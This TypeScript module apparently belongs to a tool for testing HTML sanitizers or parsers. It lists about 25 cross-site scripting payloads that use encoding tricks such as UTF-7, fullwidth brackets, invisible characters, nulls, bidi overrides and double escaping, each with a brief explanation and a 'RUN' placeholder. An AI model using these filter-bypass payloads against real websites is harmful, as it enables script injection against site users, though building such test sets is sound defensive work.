/** The same attacks in encodings that some parsers read as a tag and others do not. */
import type { Technique } from '../payload.ts'

export const encodings: Technique = {
  name: 'encodings',
  runsAs: 'elsewhere',
  attempts: [
    ['+ADw-script+AD4-RUN+ADw-/script+AD4-', 'UTF-7, which browsers once guessed'],
    ['¼script¾RUN¼/script¾', 'US-ASCII with the highest bit set'],
    ['\u00c0\u00bcscript\u00c0\u00beRUN', 'an overlong bracket, read as Latin-1'],
    ['＜script＞RUN＜/script＞', 'wide brackets, which normalising (NFKC) makes narrow'],
    ['﹤img src=x onerror=RUN﹥', 'small brackets, likewise'],
    ['<scrİpt>RUN</scrİpt>', 'a letter that changes when its case does'],
    ['<ſcript>RUN</ſcript>', 'a long s, whose capital is S'],
    ['<img src=x onerror=ᵣan(0)>RUN', 'letters that look alike'],
    ['<\u200bscript>RUN</\u200bscript>', 'an invisible character after the bracket'],
    ['<scr\u00adipt>RUN</scr\u00adipt>', 'a soft hyphen that something later may remove'],
    ['\ufeff<script>RUN</script>', 'a byte order mark in front'],
    ['<img\u00a0src=x\u00a0onerror=RUN>', 'spaces that HTML does not count'],
    ['<img\u2028src=x\u2028onerror=RUN>', 'line ends that HTML does not count'],
    ['\u1680<img src=x onerror=RUN>', 'a space that looks like a dash'],
    ['<scr\u0000ipt>RUN</scr\u0000ipt>', 'a null, which some parsers skip'],
    ['<img src=x onerror\u0000=RUN>', 'a null in an attribute’s name'],
    ['\u001b$B<script>RUN</script>', 'an escape sequence of ISO-2022-JP'],
    ['\u202e>tpircs/<RUN>tpircs<', 'text turned round'],
    ['\u2066<img src=x onerror=RUN>\u2069', 'isolated, so that what follows moves'],
    ['%253Cscript%253ERUN', 'escaped twice for addresses'],
    ['\\u003cscript\\u003eRUN', 'an escape of JSON that is decoded once too often'],
    ['\\x3cscript\\x3eRUN', 'an escape of JavaScript'],
    ['&#x3c;img src=x onerror=RUN&#x3e;', 'entities, hexadecimal'],
    ['&#60img src=x onerror=RUN&#62', 'entities without their end'],
    ['&ltimg src=x onerror=RUN&gt', 'old names need no semicolon'],
  ],
}
